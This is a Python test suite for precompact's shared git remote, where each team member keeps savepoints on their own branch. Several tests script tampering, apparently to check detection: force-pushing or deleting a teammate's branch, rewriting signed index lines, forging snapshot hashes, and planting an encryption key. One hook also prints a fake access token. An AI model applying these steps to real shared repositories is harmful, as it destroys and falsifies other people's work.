"""One git remote for a whole team (issue #47): each instance pushes its own branch
(`precompact/savepoints-<instance id>`), never forced; a push that lost a race is fetched, merged
on top and pushed again; a refusal that is not a race is shown with git's whole reason and stays
queued; `status --remote` lists every instance with its verdict; a teammate who rewinds, deletes
or rewrites another's branch is caught, and the owner's next flush pushes it back; a single
shared branch from before is migrated without a force-push; a chunk-naming key planted on the
remote is never adopted (#48). A bare remote and several clones, each with a HOME of its own,
through the installed binary."""

from __future__ import annotations

import functools
import hashlib
import json
import subprocess
import threading
from dataclasses import dataclass
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator

from precompact.edges.cli import EXIT_NOT_VERIFIED
from precompact.remote import encryption as remote_crypto
from precompact.remote import gitstore
from support import git_http, transcript_gen
from support.commands import invoke, precompact, run_git, wait_until
from support.projects import savepoint_branch, store_git

SAVED = 3  # `savepoint`'s exit code with the chain off (EXIT_LAYER_PENDING)
ZERO = "0" * 40


@dataclass
class Person:
    name: str
    path: Path
    home: Path
    saves: int = 0

    @property
    def env(self) -> dict[str, str]:
        return {
            "HOME": str(self.home),
            "XDG_CONFIG_HOME": str(self.home / ".config"),
            "XDG_STATE_HOME": str(self.home / ".local" / "state"),
            "XDG_DATA_HOME": str(self.home / ".local" / "share"),  # each person's machine has its own registry
        }

    @property
    def branch(self) -> str:
        return savepoint_branch(self.name)

    def run(self, *args: str) -> subprocess.CompletedProcess:
        return precompact(self.path, *args, env=self.env)

    def git(self, *args: str) -> str:
        """git on precompact's own git directory for this person's project (in their HOME)."""
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("XDG_STATE_HOME", self.env["XDG_STATE_HOME"])
            return store_git(self.path, *args)

    def save(self) -> subprocess.CompletedProcess:
        """A savepoint of a session that grew since the last one."""
        self.saves += 1
        transcript = transcript_gen.generate(
            self.path.parent / f"{self.path.name}-session.jsonl",
            target_bytes=5_000 * self.saves,
            project=self.path,
            planted=[f"{self.name}-marker-{self.saves}"],
        )
        return self.run("savepoint", "--transcript", str(transcript.path))

    def statuses(self) -> list[dict]:
        done = self.run("status", "--json")
        assert done.returncode == 0, done.stderr
        return json.loads(done.stdout)["savepoints"]


def bare_remote(root: Path) -> Path:
    """A bare remote that logs every ref update, so a forced one would show in its reflog."""
    remote = root / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    run_git(remote, "config", "core.logAllRefUpdates", "always")
    return remote


def person(root: Path, name: str, url: str, *init_args: str, folder: str | None = None) -> Person:
    """A clone of its own (in `folder`, default `name`), a HOME of its own, and `precompact init`
    with instance `name`."""
    path, home = root / (folder or name), root / f"{folder or name}-home"
    home.mkdir()
    subprocess.run(["git", "init", "-q", "-b", "main", str(path)], check=True)
    for args in (("remote", "add", "origin", url), ("config", "user.name", name), ("config", "user.email", "t@x")):
        run_git(path, *args)
    made = Person(name, path, home)
    done = made.run("init", "--yes", "--instance", name, "--chain", "off", "--url", url, *init_args)
    assert done.returncode == 0, done.stdout + done.stderr
    return made


def forced_updates(remote: Path) -> list[str]:
    """Every update in the remote's reflogs whose new value does not contain the old one."""
    forced = []
    for log in (remote / "logs" / "refs").rglob("*"):
        if not log.is_file():
            continue
        for line in log.read_text().splitlines():
            old, new = line.split()[:2]
            if old == ZERO or new == ZERO:
                continue
            ancestor = subprocess.run(["git", "merge-base", "--is-ancestor", old, new], cwd=remote, check=False)
            if ancestor.returncode != 0:
                forced.append(f"{log.relative_to(remote)}: {old[:10]} -> {new[:10]}")
    return forced


def on_remote(remote: Path, branch: str, commit: str) -> bool:
    done = subprocess.run(
        ["git", "merge-base", "--is-ancestor", commit, f"refs/heads/{branch}"], check=False, cwd=remote
    )
    return done.returncode == 0


def all_pushed_and_verified(who: Person, remote: Path, count: int) -> None:
    rows = who.statuses()
    assert [r["layer_2"] for r in rows] == ["PUSHED"] * count, rows
    assert all(on_remote(remote, who.branch, r["commit"]) for r in rows)
    verified = who.run("verify")
    assert verified.returncode == 0, verified.stdout + verified.stderr
    assert verified.stdout.startswith(f"✓ {count} savepoint(s) verified"), verified.stdout


def test_two_people_in_turn_each_reach_the_remote_on_a_branch_of_their_own(tmp_path):
    remote = bare_remote(tmp_path)
    alice, bob = (person(tmp_path, name, str(remote)) for name in ("alice", "bob"))
    for who in (alice, bob, alice, bob):
        assert who.save().returncode == SAVED
    for who in (alice, bob):
        all_pushed_and_verified(who, remote, 2)
    heads = run_git(remote, "for-each-ref", "--format=%(refname)").split()
    assert sorted(heads) == sorted(f"refs/heads/{who.branch}" for who in (alice, bob))
    assert forced_updates(remote) == []


def test_five_people_saving_three_times_at_once_lose_nothing(tmp_path):
    remote = bare_remote(tmp_path)
    people = [person(tmp_path, f"dev{n}", str(remote)) for n in range(5)]
    codes: dict[str, list[int]] = {}

    def three(who: Person) -> None:
        codes[who.name] = [who.save().returncode for _ in range(3)]

    threads = [threading.Thread(target=three, args=(who,)) for who in people]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert codes == {who.name: [SAVED] * 3 for who in people}
    for who in people:
        who.run("flush")  # whatever the worker had not finished yet
        all_pushed_and_verified(who, remote, 3)
    assert forced_updates(remote) == []


def test_one_person_on_two_machines_pushes_from_both_and_sees_both(tmp_path):
    remote = bare_remote(tmp_path)
    laptop = person(tmp_path, "gabriel laptop", str(remote))
    # The second machine uses the same signing key and age identity, copied over.
    keys = laptop.home / ".config" / "precompact" / "keys"
    [keypair] = [k for k in keys.iterdir() if k.suffix == ".json"]
    identity = keys / "precompact-age-identity.txt"
    desktop = person(tmp_path, "gabriel desktop", str(remote), "--keypair", str(keypair), "--identity", str(identity))
    for who in (laptop, desktop, laptop):
        assert who.save().returncode == SAVED
    all_pushed_and_verified(laptop, remote, 2)
    all_pushed_and_verified(desktop, remote, 1)

    listed = desktop.run("status", "--remote", "--json")
    assert listed.returncode == 0, listed.stdout + listed.stderr
    document = json.loads(listed.stdout)
    schema = json.loads((Path(__file__).parents[2] / "docs" / "schemas" / "status.schema.json").read_text())
    assert not list(Draft202012Validator(schema).iter_errors(document))
    found = {i["instance"]: i for i in document["instances"]}
    assert set(found) == {"gabriel laptop", "gabriel desktop"}
    assert [found[n]["status"] for n in sorted(found)] == ["verified", "verified"]
    assert found["gabriel laptop"]["last_sequence"] == 2 and not found["gabriel laptop"]["this_project"]
    assert found["gabriel desktop"]["this_project"] and "(your key)" in found["gabriel laptop"]["detail"]


def test_one_instance_on_two_machines_verifies_after_the_other_saved_and_this_one_restored(tmp_path):
    """The branch in precompact's git directory here is behind the remote's once the other
    machine has saved: a savepoint only the remote's branch holds is no rewrite."""
    remote = bare_remote(tmp_path)
    laptop = person(tmp_path, "gabriel", str(remote), folder="laptop")
    keys = laptop.home / ".config" / "precompact" / "keys"
    [keypair] = [k for k in keys.iterdir() if k.suffix == ".json"]
    identity = keys / "precompact-age-identity.txt"
    assert laptop.save().returncode == SAVED
    desktop = person(
        tmp_path, "gabriel", str(remote), "--keypair", str(keypair), "--identity", str(identity), folder="desktop"
    )
    assert desktop.run("restore").returncode == 0
    assert desktop.save().returncode == SAVED
    assert desktop.run("flush").returncode == 0
    restored = laptop.run("restore")
    assert restored.returncode == 0 and "restored 1 savepoint(s)" in restored.stdout, restored.stdout + restored.stderr
    assert laptop.run("flush").returncode == 0
    verified = laptop.run("verify")
    assert verified.returncode == 0, verified.stdout + verified.stderr
    assert verified.stdout.startswith("✓ 2 savepoint(s) verified"), verified.stdout


def test_status_remote_names_a_teammates_branch_it_cannot_read_and_fails_an_altered_one(tmp_path):
    remote = bare_remote(tmp_path)
    alice = person(tmp_path, "alice", str(remote), "--no-encrypt")
    bob = person(tmp_path, "bob", str(remote))
    for who in (alice, alice, alice, bob):
        assert who.save().returncode == SAVED

    # Her key is her branch's claim, which anyone who can push could make: bob's own branch is ✓,
    # hers "not verified" (exit 4) until he pins her key, then ✓ (exit 0).
    theirs, yours = _signing_key(alice), _signing_key(bob)
    unpinned = bob.run("status", "--remote")
    assert unpinned.returncode == EXIT_NOT_VERIFIED, unpinned.stdout + unpinned.stderr
    lines = unpinned.stdout.splitlines()
    assert any(line.startswith("– alice: branch ") and "last savepoint #3" in line for line in lines), lines
    said = f"not verified: 3 savepoint(s), linked, the last one's snapshot checked; but signed by {theirs}, not a key you pinned (this project's key is {yours}): pass --signer {theirs} if you trust it"
    assert said in unpinned.stdout, unpinned.stdout
    assert any(line.startswith("✓ bob (this project's instance)") for line in lines), lines
    listed = bob.run("status", "--remote", "--signer", theirs)
    assert listed.returncode == 0, listed.stdout + listed.stderr
    lines = listed.stdout.splitlines()
    assert any(line.startswith("✓ alice: branch ") and "last savepoint #3" in line for line in lines), lines
    assert any(line.startswith("✓ bob (this project's instance)") for line in lines), lines
    other = bob.run("status", "--remote", "--signer", _signing_key(bob), "--signer", yours)
    assert other.returncode == EXIT_NOT_VERIFIED and "– alice: branch " in other.stdout, other.stdout
    assert f"signed by {theirs}, not {yours}, the key you pinned: " in other.stdout, other.stdout
    assert f"--signer {theirs}" not in other.stdout, other.stdout
    assert bob.run("status", "--signer", theirs).returncode == 2

    # docs/security.md: which key is a teammate's own is their branch's claim (named, and marked
    # when it is yours); a rewind to an older state of a branch's own verifies there, and only its
    # owner's verify sees what it lacks.
    tip = run_git(remote, "rev-parse", f"refs/heads/{alice.branch}").strip()
    run_git(bob.path, "fetch", "-q", str(remote), alice.branch)
    first = alice.statuses()[0]["commit"]
    run_git(bob.path, "push", "-q", "--force", str(remote), f"{first}:refs/heads/{alice.branch}")
    rewound = bob.run("status", "--remote", "--signer", theirs, "--json")
    assert rewound.returncode == 0, rewound.stdout + rewound.stderr
    seen = {i["instance"]: i for i in json.loads(rewound.stdout)["instances"]}
    assert (seen["alice"]["status"], seen["alice"]["last_sequence"]) == ("verified", 1), seen["alice"]
    assert seen["alice"]["signer"] and seen["alice"]["signer"] != seen["bob"]["signer"]
    assert f"signed by {seen['bob']['signer']} (your key)" in seen["bob"]["detail"], seen["bob"]
    assert (
        f"signed by {seen['alice']['signer']}" in seen["alice"]["detail"] and "your key" not in seen["alice"]["detail"]
    )
    assert (seen["alice"]["this_project"], seen["bob"]["this_project"]) == (False, True)
    assert alice.run("verify").returncode != 0
    run_git(bob.path, "push", "-q", "--force", str(remote), f"{tip}:refs/heads/{alice.branch}")

    # bob rewrites alice's index copy: her savepoint 2 disappears from it (signed lines kept).
    work = tmp_path / "rewrite"
    run_git(tmp_path, "clone", "-q", "-b", alice.branch, str(remote), str(work))
    index = work / "logs" / "precompact-savepoint.jsonl"
    kept = [line for line in index.read_text().splitlines() if json.loads(line).get("sequence") != 2]
    index.write_text("\n".join(kept) + "\n")
    run_git(work, "-c", "user.name=bob", "-c", "user.email=b@x", "commit", "-qam", "tidy")
    run_git(work, "push", "-q", "origin", alice.branch)  # on top: no force needed to alter the tip
    altered = bob.run("status", "--remote", "--signer", theirs)
    assert altered.returncode == 1, altered.stdout + altered.stderr
    assert "✗ alice: branch" in altered.stdout and "savepoint 2 is missing" in altered.stdout, altered.stdout

    # Swapping two signed lines (reordering) fails too.
    lines_now = index.read_text().splitlines()
    index.write_text("\n".join(reversed(lines_now)) + "\n")
    run_git(work, "-c", "user.name=bob", "-c", "user.email=b@x", "commit", "-qam", "reorder")
    run_git(work, "push", "-q", "origin", alice.branch)
    assert bob.run("status", "--remote").returncode == 1


def test_a_teammate_who_rewinds_or_deletes_anothers_branch_is_caught_and_nothing_is_lost(tmp_path):
    """Also #48: the remote's branch rewound by a force-push; status, verify and flush must not
    keep saying it is pushed."""
    remote = bare_remote(tmp_path)
    alice, bob = (person(tmp_path, name, str(remote)) for name in ("alice", "bob"))
    for who in (alice, alice, bob):
        assert who.save().returncode == SAVED
    first, second = (r["commit"] for r in alice.statuses())

    # bob, who can push, force-pushes alice's branch back to her first savepoint.
    run_git(bob.path, "fetch", "-q", str(remote), alice.branch)
    run_git(bob.path, "push", "-q", "--force", str(remote), f"{first}:refs/heads/{alice.branch}")
    verify = alice.run("verify")
    assert verify.returncode != 0 and "✓" not in verify.stdout.splitlines()[0], verify.stdout
    assert "savepoint 2 [git]" in verify.stdout and "not on the remote" in verify.stdout, verify.stdout
    # status reads no network: the branch as verify last read it no longer holds savepoint 2.
    assert [r["layer_2"] for r in alice.statuses()] == ["PUSHED", "FAILED"]
    said = alice.run("status").stdout
    assert (
        "but its branch there, as last read, no longer holds it (rewound or deleted); `precompact flush` pushes it again"
        in said
    )
    flushed = alice.run("flush")
    assert flushed.returncode == 0, flushed.stdout + flushed.stderr
    assert run_git(remote, "rev-parse", f"refs/heads/{alice.branch}").strip() == second
    all_pushed_and_verified(alice, remote, 2)
    # Only bob forced anything: alice's push back was a fast-forward.
    assert forced_updates(remote) == [f"logs/refs/heads/{alice.branch}: {second[:10]} -> {first[:10]}"]

    # bob deletes alice's branch.
    run_git(bob.path, "push", "-q", str(remote), f":refs/heads/{alice.branch}")
    assert alice.run("verify").returncode != 0
    assert alice.run("flush").returncode == 0
    all_pushed_and_verified(alice, remote, 2)
    all_pushed_and_verified(bob, remote, 1)
    assert forced_updates(remote) == []  # the deletion took bob's rewind with the branch's reflog


def test_a_push_that_lost_a_race_is_merged_on_top_never_forced(tmp_path):
    """Someone else's commit on the instance's branch (another machine of the same instance, a
    teammate): the next push fetches it, puts the savepoint on top with both kept, and pushes."""
    remote = bare_remote(tmp_path)
    alice = person(tmp_path, "alice", str(remote))
    assert alice.save().returncode == SAVED
    [row] = alice.statuses()
    work = tmp_path / "other"
    run_git(tmp_path, "clone", "-q", "-b", alice.branch, str(remote), str(work))
    (work / "note.txt").write_text("someone else's commit\n")
    run_git(work, "add", "note.txt")
    run_git(work, "-c", "user.name=o", "-c", "user.email=o@x", "commit", "-qm", "other")
    run_git(work, "push", "-q", "origin", alice.branch)
    theirs = run_git(work, "rev-parse", "HEAD").strip()

    assert alice.save().returncode == SAVED
    all_pushed_and_verified(alice, remote, 2)
    assert on_remote(remote, alice.branch, theirs), "the other commit is kept"
    assert on_remote(remote, alice.branch, row["commit"])
    assert forced_updates(remote) == []


def test_a_refusal_that_is_not_a_race_is_shown_with_gits_whole_reason_redacted_and_stays_queued(tmp_path):
    """A protected branch: the remote's pre-receive hook refuses, over HTTP as a server would.
    Also #40 case 6: the remote's reason was lost ("failed to push some refs to '/path")."""
    served = tmp_path / "served"
    served.mkdir()
    remote = bare_remote(served)
    hook = remote / "hooks" / "pre-receive"
    hook.write_text(
        "#!/bin/sh\n"
        "echo 'GL-HOOK-ERR: refs/heads/precompact/* is a protected branch' >&2\n"
        "echo 'ask an admin (token ghp_0123456789abcdefghijklmnopqrstuvwxyzAB)' >&2\n"
        "exit 1\n"
    )
    hook.chmod(0o755)
    with git_http.GitHttp(served) as server:
        alice = person(tmp_path, "alice", server.url("remote.git"))
        saved = alice.save()
        assert saved.returncode == SAVED
        status = alice.run("status")
        flushed = alice.run("flush")
    assert flushed.returncode != 0
    for out in (saved.stdout, status.stdout, flushed.stdout):
        assert "GL-HOOK-ERR: refs/heads/precompact/* is a protected branch" in out, out
        assert "ask an admin" in out and "pre-receive hook declined" in out, out
        assert "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB" not in out, out
    [row] = alice.statuses()
    assert row["layer_2"] == "FAILED" and row["commit"]
    assert run_git(remote, "for-each-ref") == ""


def test_a_single_shared_branch_from_before_is_migrated_without_a_force_push(tmp_path):
    remote = bare_remote(tmp_path)
    alice = person(tmp_path, "alice", str(remote))
    for _ in range(2):
        assert alice.save().returncode == SAVED
    before = [r["commit"] for r in alice.statuses()]
    # As an older precompact left it: the shared branch here and on the remote, no branch of the
    # instance's own anywhere.
    legacy = "refs/heads/precompact/savepoints"
    for git in (alice.git, functools.partial(run_git, remote)):
        tip = git("rev-parse", f"refs/heads/{alice.branch}").strip()
        git("update-ref", legacy, tip)
        git("update-ref", "-d", f"refs/heads/{alice.branch}")
    alice.git("update-ref", "-d", f"refs/remotes/origin/{alice.branch}")
    legacy_tip = run_git(remote, "rev-parse", legacy).strip()

    verified = alice.run("verify")  # keeps working before any new savepoint
    assert verified.returncode == 0 and verified.stdout.startswith("✓ 2 savepoint(s) verified"), verified.stdout
    assert alice.save().returncode == SAVED
    all_pushed_and_verified(alice, remote, 3)
    assert [r["commit"] for r in alice.statuses()][:2] == before, "the recorded commits are the same"
    assert run_git(remote, "rev-parse", legacy).strip() == legacy_tip, "the shared branch is left as it was"
    assert forced_updates(remote) == []


def test_a_chunk_naming_key_planted_on_the_remote_encrypted_to_the_victim_is_never_adopted(tmp_path):
    """#48: a hostile origin writes a naming key of its choosing, encrypted to the victim's public
    recipient, onto the victim's branch before the victim's first savepoint."""
    remote = bare_remote(tmp_path)
    victim = person(tmp_path, "victim", str(remote))
    planted = b"P" * remote_crypto.NAMING_KEY_BYTES
    loaded_keys = remote_crypto.Keys(tuple(_recipients(victim)))
    work = tmp_path / "planter"
    subprocess.run(["git", "init", "-q", "-b", "x", str(work)], check=True)
    (work / "logs").mkdir()
    (work / gitstore.sealed_path(gitstore.NAMING_KEY_NAME)).write_bytes(remote_crypto.seal(planted, loaded_keys))
    run_git(work, "add", "-A")
    run_git(work, "-c", "user.name=m", "-c", "user.email=m@x", "commit", "-qm", "key")
    for branch in (victim.branch, "precompact/savepoints"):
        run_git(work, "push", "-q", str(remote), f"HEAD:refs/heads/{branch}")
    victim.run("verify")  # fetches the remote's branch

    assert victim.save().returncode == SAVED
    key_file = victim.path / "logs" / "precompact-chunk-names.key"
    assert planted not in key_file.read_bytes()
    tip = run_git(remote, "rev-parse", f"refs/heads/{victim.branch}").strip()
    names = run_git(remote, "ls-tree", "-r", "--name-only", tip).split()
    chunks = [p.name for p in (victim.path / "logs" / "precompact-chunks").iterdir()]
    guessable = {gitstore.CHUNKS_DIR + remote_crypto.keyed_name(planted, c) + remote_crypto.SUFFIX for c in chunks}
    assert chunks and not guessable & set(names), "no chunk is named under the planted key"


def _recipients(who: Person) -> list[str]:
    shown = who.run("key", "show", "--json")
    assert shown.returncode == 0, shown.stderr
    return json.loads(shown.stdout)["recipients"]


def test_resurrect_from_a_teammate_reaches_their_savepoints_only_when_you_are_a_recipient(tmp_path):
    remote = bare_remote(tmp_path)
    bob, carol = (person(tmp_path, name, str(remote)) for name in ("bob", "carol"))
    alice = person(tmp_path, "alice", str(remote), "--recipient", _recipients(bob)[0])
    assert alice.save().returncode == SAVED

    reached = bob.run("resurrect", "--from", "alice", "--signer", _signing_key(alice), "--json")
    assert reached.returncode == 0, reached.stdout + reached.stderr
    found = json.loads(reached.stdout)
    assert found["sequence"] == 1 and found["source"].startswith(f"branch {alice.branch}"), found
    # Read with bob's identity, held to alice's own key (the one her index is signed with).
    integrity = found["checks"]["integrity"]
    assert integrity["status"] == "verified" and _signing_key(alice) in integrity["detail"], found["checks"]

    refused = carol.run("resurrect", "--from", "alice")
    assert refused.returncode == 1 and refused.stdout == ""
    assert refused.stderr.count("\n") == 1, refused.stderr
    assert f"alice's savepoints on branch {alice.branch} are not encrypted to you" in refused.stderr
    assert "encryption.recipients" in refused.stderr


def _signing_key(who: Person) -> str:
    """The public key `who`'s index lines are signed with (their keypair's)."""
    from precompact.verifier import signed

    [keypair] = [k for k in (who.home / ".config" / "precompact" / "keys").iterdir() if k.suffix == ".json"]
    return signed.Signer.load(keypair).public_key


def _rewritten(tmp_path: Path, remote: Path, branch: str, change) -> None:
    """Someone who can push commits `change(work tree)` on top of `branch` (no force needed)."""
    work = tmp_path / f"rewrite-{branch.rpartition('-')[2]}"
    if not work.exists():
        run_git(tmp_path, "clone", "-q", "-b", branch, str(remote), str(work))
    run_git(work, "pull", "-q", "origin", branch)
    change(work)
    run_git(work, "-c", "user.name=bob", "-c", "user.email=b@x", "commit", "-qam", "tidy")
    run_git(work, "push", "-q", "origin", branch)


def test_resurrect_from_a_teammate_holds_their_savepoint_to_their_own_key_and_fails_an_altered_one(tmp_path):
    remote = bare_remote(tmp_path)
    alice = person(tmp_path, "alice", str(remote), "--no-encrypt")
    bob = person(tmp_path, "bob", str(remote))
    for _ in range(2):
        assert alice.save().returncode == SAVED
    theirs, yours = _signing_key(alice), _signing_key(bob)

    # Her key is her branch's claim: without bob pinning it, nothing is verified, no lineage is
    # recorded and nothing is copied into his logs/ (where it would have no index line).
    index = bob.path / "logs" / "precompact-savepoint.jsonl"
    before = index.read_bytes() if index.exists() else b""
    unpinned = bob.run("resurrect", "--from", "alice")
    assert unpinned.returncode == EXIT_NOT_VERIFIED, (
        unpinned.stdout + unpinned.stderr
    )  # intact, vouched by no root of bob's
    said = f"signed by {theirs}, not a key you pinned (this project's key is {yours}): pass --signer {theirs}"
    assert said in unpinned.stdout, unpinned.stdout
    assert "✓" not in unpinned.stdout and "Ready to resume work" not in unpinned.stdout
    assert "NOT VERIFIED" in unpinned.stdout
    assert (index.read_bytes() if index.exists() else b"") == before
    assert not list((bob.path / "logs").rglob("snapshot_*.json"))

    reached = bob.run("resurrect", "--from", "alice", "--signer", theirs, "--json")
    assert reached.returncode == 0, reached.stdout + reached.stderr
    integrity = json.loads(reached.stdout)["checks"]["integrity"]
    assert integrity["status"] == "verified", integrity
    assert f"signed by {theirs}" in integrity["detail"] and yours not in integrity["detail"], integrity
    assert "--signer pins" in bob.run("resurrect", "--signer", theirs).stderr

    # bob swaps alice's savepoint 2 for bytes of his own and restates its hash in her line.
    def swapped(work: Path) -> None:
        index = work / "logs" / "precompact-savepoint.jsonl"
        lines = [json.loads(line) for line in index.read_text().splitlines()]
        [line] = [x for x in lines if x.get("sequence") == 2 and "snapshot_file" in x]
        snapshot = work / line["snapshot_file"]
        snapshot.write_bytes(snapshot.read_bytes() + b" ")
        line["snapshot_hash"] = hashlib.sha256(snapshot.read_bytes()).hexdigest()
        index.write_text("".join(json.dumps(x) + "\n" for x in lines))

    _rewritten(tmp_path, remote, alice.branch, swapped)
    refused = bob.run("resurrect", "--from", "alice")
    assert refused.returncode == 1 and refused.stdout == "", refused.stdout + refused.stderr
    assert refused.stderr.count("\n") == 1, refused.stderr
    assert f"alice's index on branch {alice.branch}" in refused.stderr, refused.stderr
    assert f"is altered: savepoint 2's line does not verify with its key {theirs}" in refused.stderr, refused.stderr

    # bob removes her savepoint 1 from the index copy.
    def removed(work: Path) -> None:
        index = work / "logs" / "precompact-savepoint.jsonl"
        kept = [line for line in index.read_text().splitlines() if json.loads(line).get("sequence") != 1]
        index.write_text("\n".join(kept) + "\n")

    _rewritten(tmp_path, remote, alice.branch, removed)
    gone = bob.run("resurrect", "--from", "alice")
    assert gone.returncode == 1 and gone.stderr.count("\n") == 1, gone.stdout + gone.stderr
    assert "is altered: savepoint 1 is missing (the index goes on with 2)" in gone.stderr, gone.stderr


def test_recall_from_a_teammate_searches_their_savepoints_checked_against_their_key_or_says_why_not(tmp_path):
    remote = bare_remote(tmp_path)
    bob, carol = (person(tmp_path, name, str(remote)) for name in ("bob", "carol"))
    alice = person(tmp_path, "alice", str(remote), "--recipient", _recipients(bob)[0])
    assert alice.save().returncode == SAVED
    key = _signing_key(alice)

    # Her key is her branch's claim: without bob pinning it, nothing of hers is searched (exit 4).
    unpinned = bob.run("recall", "alice-marker-1", "--from", "alice")
    assert unpinned.returncode == EXIT_NOT_VERIFIED and unpinned.stdout == "", unpinned.stdout + unpinned.stderr
    said = f"alice's savepoints on branch {alice.branch} are not verified: signed by {key}, not a key you pinned (this project's key is {_signing_key(bob)}): pass --signer {key} if you trust it; nothing was searched"
    assert unpinned.stderr == f"Error: {said}\n", unpinned.stderr
    wrong = bob.run("recall", "alice-marker-1", "--from", "alice", "--signer", _signing_key(carol))
    assert wrong.returncode == EXIT_NOT_VERIFIED and "alice-marker" not in wrong.stdout, wrong.stdout + wrong.stderr
    assert f"signed by {key}, not {_signing_key(carol)}, the key you pinned" in wrong.stderr, wrong.stderr
    assert f"--signer {key}" not in wrong.stderr, wrong.stderr
    assert bob.run("recall", "x", "--signer", key).returncode == 2

    found = bob.run("recall", "alice-marker-1", "--from", "alice", "--signer", key, "--json")
    assert found.returncode == 0, found.stdout + found.stderr
    document = json.loads(found.stdout)
    schema = json.loads((Path(__file__).parents[2] / "docs" / "schemas" / "recall.schema.json").read_text())
    assert not list(Draft202012Validator(schema).iter_errors(document))
    assert document["hits"] and all(hit["instance"] == "alice" for hit in document["hits"]), document
    assert "alice-marker-1" in document["hits"][0]["excerpt"]
    tip = run_git(remote, "rev-parse", f"refs/heads/{alice.branch}").strip()
    assert (
        document["notes"][0]
        == f"alice's savepoints on branch {alice.branch} of origin at {tip[:12]} (its tip; its history is not read), each checked against its own key {key}, the key you pinned"
    )
    shown = bob.run("recall", "alice-marker-1", "--from", "alice", "--signer", key)
    assert shown.returncode == 0 and "[1:" in shown.stdout and "savepoint 1 of alice" in shown.stdout, shown.stdout
    # `show` reads bob's project only: the reference recall --from gave is not his.
    ref = shown.stdout.split("[", 1)[1].split("]", 1)[0]
    own = bob.run("show", ref)
    assert own.returncode != 0 and "alice-marker" not in own.stdout + own.stderr, own.stdout + own.stderr
    # Nothing of alice's lands in bob's project: his own recall, and his logs/, know only his.
    assert not any(
        "alice-marker" in p.read_bytes().decode("latin-1") for p in (bob.path / "logs").rglob("*") if p.is_file()
    )

    refused = carol.run("recall", "alice-marker-1", "--from", "alice")
    assert refused.returncode == 1 and refused.stdout == "", refused.stdout + refused.stderr
    assert refused.stderr.count("\n") == 1, refused.stderr
    assert f"alice's savepoints on branch {alice.branch} are not encrypted to you" in refused.stderr, refused.stderr
    assert "encryption.recipients" in refused.stderr

    # status --remote lists her branch, "not verified" (exit 4), and reads nothing of it.
    listed = carol.run("status", "--remote")
    assert listed.returncode == EXIT_NOT_VERIFIED, listed.stdout + listed.stderr
    assert f"– (an instance whose index cannot be read here): branch {alice.branch}" in listed.stdout, listed.stdout
    assert "not verified: its index is encrypted to identities not here: not read" in listed.stdout, listed.stdout

    both = bob.run("recall", "x", "--from", "alice", "--everywhere")
    assert both.returncode == 2 and "give --everywhere or --from, not both" in both.stderr, both.stderr


def test_prune_judges_each_instance_on_its_own_branch_and_touches_no_teammates_ref(tmp_path):
    """A logs/ with two instances of its own (a renamed one's predecessor, here through
    PRECOMPACT_INSTANCE) beside a teammate's branch on the same remote: prune removes the old
    copies of both, each verified on its own branch, and no ref of anyone's moves."""
    remote = bare_remote(tmp_path)
    alice, bob = (person(tmp_path, name, str(remote)) for name in ("alice", "bob"))
    old = {**alice.env, "PRECOMPACT_INSTANCE": "alice old"}
    for n in range(2):
        assert alice.save().returncode == SAVED
        transcript = transcript_gen.generate(
            tmp_path / f"old-{n}.jsonl", target_bytes=4_000 * (n + 1), project=alice.path
        )
        assert precompact(alice.path, "savepoint", "--transcript", str(transcript.path), env=old).returncode == SAVED
    assert bob.save().returncode == SAVED
    assert alice.run("flush").returncode == 0
    # bob's branch fetched into alice's store; encrypted to bob alone, it is listed, not read.
    assert alice.run("status", "--remote").returncode == EXIT_NOT_VERIFIED
    theirs = [
        line
        for line in alice.git("for-each-ref", "--format=%(refname) %(objectname)").splitlines()
        if bob.branch in line
    ]
    remote_refs = run_git(remote, "for-each-ref")
    assert theirs and bob.branch in remote_refs

    pruned = alice.run("prune", "--keep", "1", "--json")
    assert pruned.returncode == 0, pruned.stdout + pruned.stderr
    document = json.loads(pruned.stdout)
    assert document["kept"] == [], document["kept"]
    assert sorted((p["instance"], p["sequence"]) for p in document["pruned"]) == [("alice", 1), ("alice old", 1)]
    assert run_git(remote, "for-each-ref") == remote_refs
    after = alice.git("for-each-ref", "--format=%(refname) %(objectname)").splitlines()
    assert [line for line in after if bob.branch in line] == theirs
    assert alice.run("flush").returncode == 0
    assert run_git(remote, "for-each-ref") == remote_refs and forced_updates(remote) == []


def _second_machine(tmp_path: Path, who: Person, url: str) -> Person:
    """`who`'s instance on a new machine: their signing key and age identity copied over."""
    keys = who.home / ".config" / "precompact" / "keys"
    [keypair] = [k for k in keys.iterdir() if k.suffix == ".json"]
    identity = keys / "precompact-age-identity.txt"
    return person(
        tmp_path, who.name, url, "--keypair", str(keypair), "--identity", str(identity), folder=f"{who.name}-new"
    )


def test_restore_reads_the_shared_branch_of_an_archive_not_migrated_and_the_instances_own_once_it_is(tmp_path):
    remote = bare_remote(tmp_path)
    alice = person(tmp_path, "alice", str(remote))
    for _ in range(2):
        assert alice.save().returncode == SAVED
    legacy = "precompact/savepoints"
    # As an older precompact left the remote: the shared branch only.
    tip = run_git(remote, "rev-parse", f"refs/heads/{alice.branch}").strip()
    run_git(remote, "update-ref", f"refs/heads/{legacy}", tip)
    run_git(remote, "update-ref", "-d", f"refs/heads/{alice.branch}")

    laptop = _second_machine(tmp_path, alice, str(remote))
    restored = laptop.run("restore")
    assert restored.returncode == 0, restored.stdout + restored.stderr
    assert restored.stdout.startswith("restored 2 savepoint(s) and "), restored.stdout
    assert f" from origin/{legacy} at {tip[:12]}," in restored.stdout, restored.stdout
    assert laptop.run("verify").stdout.startswith("✓ 2 savepoint(s) verified")
    assert laptop.save().returncode == SAVED  # the instance's own branch starts where the shared one is
    all_pushed_and_verified(laptop, remote, 3)
    assert run_git(remote, "rev-parse", f"refs/heads/{legacy}").strip() == tip, "the shared branch is left as it was"
    own = run_git(remote, "rev-parse", f"refs/heads/{alice.branch}").strip()

    # Migrated: the remote holds both; a third machine restores from the instance's own branch.
    (tmp_path / "desktop").mkdir()
    desktop = _second_machine(tmp_path / "desktop", alice, str(remote))
    again = desktop.run("restore")
    assert again.returncode == 0, again.stdout + again.stderr
    assert again.stdout.startswith("restored 3 savepoint(s) and "), again.stdout
    assert f" from origin/{alice.branch} at {own[:12]}," in again.stdout, again.stdout
    assert desktop.run("verify").stdout.startswith("✓ 3 savepoint(s) verified")
    assert forced_updates(remote) == []


